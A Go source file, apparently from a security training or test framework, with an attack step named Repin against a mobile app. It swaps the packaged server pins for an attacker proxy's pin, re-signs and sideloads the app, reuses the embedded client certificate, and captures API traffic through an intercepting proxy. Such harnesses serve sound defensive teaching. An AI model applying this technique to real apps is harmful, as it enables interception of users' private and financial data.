package appside

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"strings"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/network"
	"keyladder/mobileclient/device"
	"keyladder/stages/catalog"
)

// Repin replaces the server's pins in the package by the pin of the attacker's proxy.
// The app then insists on the proxy as it did on the server. The client certificate,
// which the API wants to see, is in the package too, and the proxy shows it.
//
//keyladder:code attack-repin
func Repin(ctx context.Context, g *attack.Given) (attack.Result, error) {
	ca, err := network.NewAuthority()
	if err != nil {
		return attack.Result{}, err
	}
	ownPin, err := ca.Pin()
	if err != nil {
		return attack.Result{}, err
	}
	path, err := g.Repackage(func(settings map[string]any) error {
		if pins, ok := settings["SERVER_PINS"].([]any); !ok || len(pins) == 0 {
			return &attack.Refusal{Check: catalog.CheckHidden, Obstacle: "there are no pins in the package that could be replaced"}
		}
		settings["SERVER_PINS"] = []string{string(ownPin)}
		return nil
	})
	if err != nil {
		return attack.Stopped(err)
	}
	g.Say("Took the package apart, put the pin of our own proxy into SERVER_PINS, and signed it with a key of our own.")
	found, err := g.SearchPackage()
	if err != nil {
		return attack.Result{}, err
	}
	var certificate *tls.Certificate
	if pairs := found.Certificates.Pairs(); len(pairs) > 0 {
		certificate = &pairs[0]
		g.Say("Found the app's client certificate and its key in the package; the proxy will show it to the API.")
	}
	uplink, err := g.Uplink(certificate)
	if err != nil {
		return attack.Result{}, err
	}
	proxy, err := network.NewInterceptor(uplink, ca)
	if err != nil {
		return attack.Result{}, err
	}
	defer proxy.Close()
	phone, err := g.Open(ctx, path, func(d *device.Device) error {
		return errors.Join(attack.Sideload(d), d.SetNetwork(proxy.Network()), d.Trust(ca.PEM()))
	})
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	g.Say("Installed it on our own phone, which trusts our own CA and goes through our own proxy.")
	if err := phone.SignIn(ctx); err != nil {
		return attack.Stopped(err)
	}
	from, _, err := phone.Robbery(ctx)
	if err != nil {
		return attack.Stopped(err)
	}
	if _, err := attack.Shown(phone.App.Transfers(ctx, from.ID)); err != nil {
		return attack.Stopped(err)
	}
	var data strings.Builder
	for _, call := range proxy.Calls() {
		g.Say("The proxy reads: %s %s, answered with %d and %d bytes.", call.Request.Method, call.Request.URL.Path, call.Status, len(call.Received))
		data.Write(call.Received)
		data.WriteByte('\n')
	}
	if data.Len() == 0 {
		return attack.Result{}, fmt.Errorf("the app works, but nothing came through the proxy")
	}
	return attack.Result{Claim: true, Data: data.String()}, nil
}
